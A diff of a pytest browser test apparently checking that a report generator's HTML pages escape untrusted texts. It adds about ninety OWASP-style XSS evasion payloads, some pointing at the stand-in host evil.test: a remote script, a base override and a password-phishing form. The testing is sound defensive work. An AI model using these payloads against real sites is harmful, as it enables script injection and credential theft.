@@ -1,13 +1,17 @@
-"""The page in a real browser: no text of a row, a model or a judge runs as a script or becomes a part of the page."""
+"""Row texts in a real browser: no script of theirs runs, and the page keeps the shape that it has with plain texts.
 
-import re
+The texts follow the categories of OWASP's "XSS Filter Evasion" and "Cross Site Scripting Prevention" cheat sheets. The
+page is opened without its content security policy too, so that escaping alone must hold, and texts are put on it
+unescaped, so that the policy alone must hold; without both, they do run, or this test would prove nothing.
+"""
+
 import shutil
 import subprocess
+from collections import Counter
 from html.parser import HTMLParser
 
 import numpy as np
 import pytest
-from xss import PAYLOADS
 
 from sealtune.compare import Answered, _write
 from sealtune.config import build_config
@@ -16,143 +20,233 @@ from sealtune.records import Drop, Rejected, Response, Scores, Verdict
 from sealtune.report.page import render
 from sealtune.report.view import ReportView
 
-BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-FLAGS = (
-    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
-    "--disable-component-update --disable-sync --disable-dev-shm-usage --virtual-time-budget=4000 --dump-dom"
-)
-needs_browser = pytest.mark.skipif(BROWSER is None, reason="no chromium on PATH")
+BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
+QUIET = [
+    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
+    *("--disable-background-networking", "--disable-component-update", "--virtual-time-budget=8000", "--dump-dom"),
+]
+pytestmark = pytest.mark.skipif(BROWSER is None, reason="no chromium or chrome on PATH")
+
+RUN = "document.documentElement.dataset.owned=1"
+PAYLOADS = {
+    "script": f"<script>{RUN}</script>",
+    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
+    "script within script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
+    "script from elsewhere": "<script src=https://evil.test/x.js></script>",
+    "script as data": f"<script src='data:text/javascript,{RUN}'></script>",
+    "script left open": f"<script>{RUN}//",
+    "module": f"<script type=module>{RUN}</script>",
+    "out of a script": f"</script><script>{RUN}</script>",
+    "out of a style": f"</style><script>{RUN}</script>",
+    "out of a title": f"</title><script>{RUN}</script>",
+    "out of a textarea": f"</textarea></pre></details></section><script>{RUN}</script>",
+    "out of a comment": f"--><script>{RUN}</script><!--",
+    "out of CDATA": f"]]><script>{RUN}</script><![CDATA[",
+    "into a comment": "<!-- all that follows is hidden",
+    "image": f"<img src=x onerror={RUN}>",
+    "image with slashes": f"<img/src=x/onerror={RUN}//",
+    "image with backticks": f"<img src=`x` onerror=`{RUN}`>",
+    "image with a NUL": f"<im\0g src=x onerror={RUN}>",
+    "image with line breaks": f"<img\nsrc=x\r\nonerror\t=\n{RUN}>",
+    "image with a form feed": f"<img\x0csrc=x\x0conerror={RUN}>",
+    "image of several sources": f"<img srcset='x 1x, y 2x' onerror={RUN}>",
+    "svg": f"<svg onload={RUN}>",
+    "svg script": f"<svg><script>{RUN}</script></svg>",
+    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
+    "svg link": f"<svg><a xlink:href='javascript:{RUN}'><text y=20>here</text></a></svg>",
+    "svg foreign object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
+    "mathml": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
+    "body": f"<body onload={RUN}>",
+    "focus": f"<input autofocus onfocus={RUN}>",
+    "toggle": f"<details open ontoggle={RUN}>",
+    "animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>",
+    "marquee": f"<marquee onstart={RUN}>",
+    "video": f"<video><source onerror={RUN}></video>",
+    "audio": f"<audio src=x onerror={RUN}>",
+    "double quote": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
+    "single quote": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
+    "no quote": f"x onmouseover={RUN} tabindex=1 autofocus onfocus={RUN}",
+    "quote and tag": f"\"'><img src=x onerror={RUN}>",
+    "javascript address": f"<a href=javascript:{RUN}>the report</a>",
+    "javascript address with entities": f"<a href='&#106;&#x61;vascript&colon;{RUN}'>the report</a>",
+    "javascript address with a tab": f"<a href='jav&#x09;ascript:{RUN}'>the report</a>",
+    "javascript address as text": f"javascript:{RUN}",
+    "vbscript address": "<a href='vbscript:msgbox(1)'>the report</a>",
+    "data address": f"<a href='data:text/html,<script>{RUN}</script>'>the report</a>",
+    "frame": f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    "frame of a document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    "object": f"<object data='data:text/html,<script>parent.{RUN}</script>'></object>",
+    "embed": "<embed src='data:image/svg+xml,<svg/>'>",
+    "another base": "<base href=https://evil.test/>",
+    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    "another policy": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
+    "link": "<link rel=stylesheet href=https://evil.test/x.css>",
+    "style": "<style>body{display:none} dd{visibility:hidden}</style>",
+    "style import": "<style>@import 'https://evil.test/x.css'</style>",
+    "style attribute": "<div style='position:fixed;inset:0;background:url(https://evil.test/x)'>all is safe</div>",
+    "style expression": f"<b style='width:expression({RUN})'>x</b>",
+    "form": "<form action=https://evil.test><input name=password><button>Sign in again</button></form>",
+    "button": f"<form id=f></form><button form=f formaction=javascript:{RUN} autofocus>Go</button>",
+    "clobbered names": "<form id=figure-data name=Plotly><input name=textContent></form><a id=documentElement>",
+    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    "entities without end": f"&#60script&#62{RUN}&#60/script&#62",
+    "entities in hex": f"&#x3c;img src=x onerror={RUN}&#x3e;",
+    "escapes of JavaScript": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    "escapes of addresses": "%3Cscript%3Ealert(1)%3C/script%3E",
+    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "full width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "out of a string": f'"}};{RUN};//',
+    "out of a string by its escape": f'\\";{RUN};//',
+    "out of JSON": f'"}}]}}</script><script>{RUN}</script>',
+    "line separators": f"\u2028{RUN}\u2029",
+    "template of the page": "{{ 7 * 7 }}{% raw %}{{ view.config }}",
+    "template literal": f"${{{RUN}}}`${{{RUN}}}`",
+    "moustache in a browser": "{{constructor.constructor('alert(1)')()}}",
+    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+    "template element": f"<template shadowrootmode=open><script>{RUN}</script>",
+    "custom element": f"<x-y tabindex=1 autofocus onfocus={RUN}>",
+    "table parts": f"</td></tr></table><img src=x onerror={RUN}><table><tr><td>",
+    "many opened": "<b>" * 600,
+    "figure markup": f"<a href=\"javascript:{RUN}\">x</a><br><sup>2</sup><span style='fill:red'>y</span>",
+    "figure template": "%{x}<extra></extra>$\\href{javascript:alert(1)}{x}$",
+    "heading forged": "</p></section><section><h2>Verdict</h2><p>All rows are safe.</p>",
+    "turned around": "\u202eelbisiver\u202c \u2066hidden\u2069 \u200f\u061c",
+    "half a pair": f"\ud800<script>{RUN}</script>\udfff",
+    "byte order": f"\ufeff\ufffe<script>{RUN}</script>",
+    "controls": "\x00\x07\x08\x1b[2J\x1b]0;owned\x07\x7f\x9b31m",
+    "prototype": "__proto__",
+    "long": "A" * 2_000,
+}
+PLAIN = [f"plain {i}" for i in range(len(PAYLOADS))]
+VOID = frozenset({"meta", "link", "img", "input", "br", "hr", "col", "source", "embed", "base", "wbr"})
+UNSEEN = set(map(chr, [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200F, 0x61C, 0x1B, 0x7, 0x2028, 0xFEFF]))
 
 
-def dom(text, folder):
-    """The page's tree after everything that wanted to run has run."""
-    page = folder / "page.html"
-    page.write_text(text, encoding="utf-8")
-    command = [BROWSER, *FLAGS.split(), f"--user-data-dir={folder / 'profile'}", page.as_uri()]
-    return subprocess.run(command, capture_output=True, timeout=120, check=True).stdout.decode("utf-8")
-
-
-def ran(tree):
-    """Whether a payload ran."""
-    return 'data-ran="yes"' in tree[: tree.index("<head>")]
-
-
-def without_policy(text):
-    text, found = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text, count=1)
-    assert found == 1
-    return text
-
-
-def view(texts):
-    """A page of which every field is one of these texts."""
-    n = len(texts)
-    ids = [text.encode("utf-8", "replace").decode() for text in texts]  # as the door makes them
-    names = tuple(f"{row_id} #{i}" for i, row_id in enumerate(ids))
-    same = dict(zip(names, names, strict=True))
-    one, models = np.arange(n, dtype=float), ("base", names[0])
-    verdicts = [
-        Verdict(name, model, name, kind, name, name, bool(i % 2), error=name if i % 3 == 0 else None)
-        for i, name in enumerate(names)
-        for kind in ("harmful", "harmless")
-        for model in models
-    ]
-    return ReportView(
-        title=texts[0] + texts[-1],
-        config={"model_name_or_path": names[0], **same},
-        manifest={"model": names[0], "versions": same, "stages": {name: {name: name} for name in names}, **same},
-        scores=Scores(names, names, one, one, one, one, one.astype(np.int64)),
-        texts={name: (text, text) for name, text in zip(names, texts, strict=True)},
-        kept=frozenset(names[n // 2 :]),
-        rejected=[Rejected(name, 1, 0.0, name) for name in names[: n // 2]],
-        unsure=frozenset(names),
-        sureness={"estimated_unsafe": None, "reliability": 0.5, "rows_near_the_threshold": n},
-        drops=[Drop(name, name, name, name, {}) for name in names],
-        rank_steps=[{"step": 1, "safe_loss": 1.0}, {"step": 2, "safe_loss": 0.5}],
-        evaluation=metrics.summarise(verdicts),
-        responses=[Response(i, m, i, i, t, t, 1, False) for i, t in zip(names, texts, strict=True) for m in models],
-        verdicts=verdicts,
-        labels={name: i % 2 for i, name in enumerate(names)},
-        rows_shown=n,
-    )
-
-
-def comparison(texts, folder):
-    """The page of a comparison whose answers, verdicts, sets and failures are these texts."""
-    config = build_config({"model_name_or_path": "m", "output_dir": str(folder / "out")})
-    answered = []
-    for method in ("random", "seal"):
-        verdicts = [Verdict(t, method, t, "harmful", t, t, bool(i % 2)) for i, t in enumerate(texts)]
-        responses = [Response(t, method, t, t, t, t, 1, True) for t in texts]
-        answered.append(Answered(method, 0, metrics.summarise(verdicts), responses, verdicts, {}))
-    rows = [{"seeds": 1, "sd": None, **row, "difference": None} for part in answered for row in part.table]
-    _write(config, rows, answered, [{"method": "loss", "seed": 0, "error": text} for text in texts])
-    return (folder / "out" / "compare.html").read_text(encoding="utf-8")
-
-
-class Skeleton(HTMLParser):
-    """Tags and their attributes, in order, but for what shows invisible characters."""
+class Shape(HTMLParser):
+    """Elements with their attributes' names, classes and addresses, outside figures; and what stands in figures."""
 
     def __init__(self, text):
         super().__init__()
-        self.parts = []
+        self.elements, self.in_figures, self.owned, self.open, self.texts = Counter(), set(), False, [], []
         self.feed(text)
 
     def handle_starttag(self, tag, attributes):
-        if ("class", "hidden-char") not in attributes:
-            self.parts.append((tag, *attributes))
+        named = dict(attributes)
+        self.owned |= "data-owned" in named
+        mark = named.get("class") == "hidden-char"
+        figure = (named.get("id") or "").startswith("figure-") and tag != "script"
+        if any(self.open):
+            self.in_figures.add(tag)
+        elif not mark:
+            told = tuple((key, named[key]) for key in ("class", "href", "id", "http-equiv") if key in named)
+            self.elements[tag, tuple(sorted(named)), told] += 1  # counted: tables are in the order of the texts
+        if tag not in VOID:
+            self.open.append(figure)
+
+    def handle_endtag(self, tag):
+        self.open.pop()
+
+    def handle_data(self, data):
+        self.texts.append(data)
 
 
-def skeleton(text):
-    """The page's own structure, up to where its figures' data begin."""
-    text = re.sub(r'content="default-src[^"]*"', "", text)
-    return Skeleton(text[: text.index('id="figure-data"')]).parts
+@pytest.fixture(scope="module")
+def browse(tmp_path_factory):
+    """The shape of a page once its scripts have run."""
+    folder = tmp_path_factory.mktemp("browser")
+
+    def shape(text):
+        page = folder / "page.html"
+        page.write_text(text, encoding="utf-8")
+        command = [BROWSER, *QUIET, f"--user-data-dir={folder}/profile", page.as_uri()]
+        done = subprocess.run(command, capture_output=True, timeout=120, check=True)
+        found = Shape(done.stdout.decode("utf-8"))
+        assert found.elements, "the browser gave no page"
+        return found
+
+    return shape
 
 
-def plain_texts():
-    return [f"text {i}" for i in range(len(PAYLOADS))]
+def report(texts):
+    """A report with each of the texts in every place where a text may stand."""
+    n = len(texts)
+    ids = [text.encode("utf-8", "backslashreplace").decode() for text in texts]  # as the door gives them
+    score = np.arange(n, dtype=float)
+    nothing, verdicts = np.full(n, np.nan), spoken(texts, texts)
+    view = ReportView(
+        title=texts[0],
+        config={"model_name_or_path": texts[0]} | {text: [text] for text in texts},
+        manifest={"command": texts[1], "versions": {t: t for t in texts}, "stages": {t: {t: t} for t in texts}},
+        scores=Scores(tuple(ids), tuple(ids), score, np.ones(n), nothing, nothing, np.ones(n, np.int64)),
+        texts={row_id: (text, text) for row_id, text in zip(ids, texts, strict=True)},
+        kept=frozenset(ids[n // 2 :]),
+        unsure=frozenset(ids[:5]),
+        rejected=[Rejected(row_id, n - i, 0.0, text) for i, (row_id, text) in enumerate(zip(ids, texts, strict=True))][
+            : n // 2
+        ],
+        drops=[Drop(text, text, text, text, {}) for text in texts],
+        evaluation=metrics.summarise(verdicts),
+        responses=answers(texts, texts),
+        verdicts=verdicts,
+        labels={row_id: i % 2 for i, row_id in enumerate(ids)},
+        rows_shown=n,
+    )
+    return render(view)
 
 
-@pytest.mark.parametrize("page", ["report", "comparison"])
-def test_no_text_becomes_a_part_of_the_page(tmp_path, page):
-    if page == "report":
-        hostile, plain = render(view(PAYLOADS)), render(view(plain_texts()))
-    else:
-        (tmp_path / "a").mkdir()
-        (tmp_path / "b").mkdir()
-        hostile, plain = comparison(PAYLOADS, tmp_path / "a"), comparison(plain_texts(), tmp_path / "b")
-    assert skeleton(hostile) == skeleton(plain)
-    shown = hostile[: hostile.index('id="figure-data"')]
-    assert shown.count("data-ran") > len(PAYLOADS)  # the texts are there
+def answers(texts, models):
+    return [Response(t, m, t, "harmful", t, t, 1, False) for t, m in zip(texts, models, strict=True)]
 
 
-@needs_browser
-def test_no_script_of_a_report_runs(tmp_path):
-    assert not ran(dom(render(view(PAYLOADS)), tmp_path))
+def spoken(texts, models):
+    """Verdicts, half of them with a reason why there is none."""
+    return [
+        Verdict(t, m, t, "harmful", t, "failed" if i % 2 else t, bool(i % 3), error=t if i % 2 else None)
+        for i, (t, m) in enumerate(zip(texts, models, strict=True))
+    ]
 
 
-@needs_browser
-def test_escaping_alone_holds_too(tmp_path):
-    tree = dom(without_policy(render(view(PAYLOADS))), tmp_path)
-    assert not ran(tree)
-    assert tree.count("js-plotly-plot") >= 3  # the page's own scripts did run, and drew the names
-    inside = Skeleton(re.sub(r"<script>.*?</script>", "", tree, flags=re.DOTALL)).parts
-    assert not [part for part in inside if any(key.startswith("on") for key, _ in part[1:])]
-    assert not {part[0] for part in inside} & {"iframe", "object", "embed", "img", "input", "form", "base", "video"}
-    links = {value for part in inside for key, value in part[1:] if key in ("href", "xlink:href")}
-    assert all(link.startswith("#") or link == "data:," for link in links)
+def comparison(texts, folder):
+    """compare.html of texts that rows, prompts, judges and errors brought."""
+    config = build_config(
+        {"model_name_or_path": texts[0], "output_dir": str(folder), "report": {"rows_shown": len(texts)}}
+    )
+    texts = [text.encode("utf-8", "replace").decode() for text in texts]  # half a pair fits into no file
+    models = ["random"] * len(texts)
+    table = [row | {"seeds": 1, "sd": None, "difference": None} for row in metrics.summarise(spoken(texts, models))]
+    part = Answered("random", 0, table, answers(texts, models), spoken(texts, models), {})
+    _write(config, table, [part], [{"method": "loss", "seed": 0, "error": text} for text in texts])
+    return (folder / "compare.html").read_text(encoding="utf-8")
 
 
-@needs_browser
-def test_no_script_of_a_comparison_runs(tmp_path):
-    text = comparison(PAYLOADS, tmp_path)
-    assert not ran(dom(text, tmp_path))
-    assert not ran(dom(without_policy(text), tmp_path))
+def page(kind, texts, folder):
+    return report(texts) if kind == "report" else comparison(texts, folder)
 
 
-@needs_browser
-def test_the_browser_would_have_told_and_the_policy_alone_holds(tmp_path):
-    """Payloads pasted into the page unescaped: without the policy one runs, with it none."""
-    text = render(view(plain_texts()[:3]))
-    pasted = text.replace("<main>", f"<main>{PAYLOADS[7]}{PAYLOADS[11]}{PAYLOADS[0]}", 1)
-    assert ran(dom(without_policy(pasted), tmp_path))
-    assert not ran(dom(pasted, tmp_path))
+def without_policy(text):
+    start = text.index("<meta http-equiv")
+    return text[:start] + text[text.index(">", start) + 1 :]
+
+
+@pytest.mark.parametrize("kind", ["report", "comparison"])
+def test_texts_run_no_script_and_keep_the_shape_of_the_page(browse, kind, tmp_path):
+    hostile = without_policy(page(kind, list(PAYLOADS.values()), tmp_path))
+    plain = without_policy(page(kind, PLAIN, tmp_path))
+    found, expected = browse(hostile), browse(plain)
+    assert not found.owned
+    assert found.elements == expected.elements
+    assert found.in_figures == expected.in_figures and "svg" in found.in_figures
+    assert not UNSEEN & set("".join(found.texts))
+    addresses = {dict(told).get("href", "#") for _, _, told in found.elements}
+    assert all(address.startswith("#") or address == "data:," for address in addresses)
+
+
+@pytest.mark.parametrize("guarded", [True, False])
+def test_the_policy_alone_holds_too(browse, guarded):
+    """What a hole in the escaping would let through; without the policy it runs, so the marks do tell."""
+    text = report(PLAIN)
+    raw = [PAYLOADS[name] for name in ("script", "image", "svg", "focus", "frame of a document")]
+    for number, payload in enumerate(raw):
+        text = text.replace(f">plain {number}<", f">{payload}<", 1)
+    assert all(payload in text for payload in raw)
+    assert browse(text if guarded else without_policy(text)).owned is not guarded
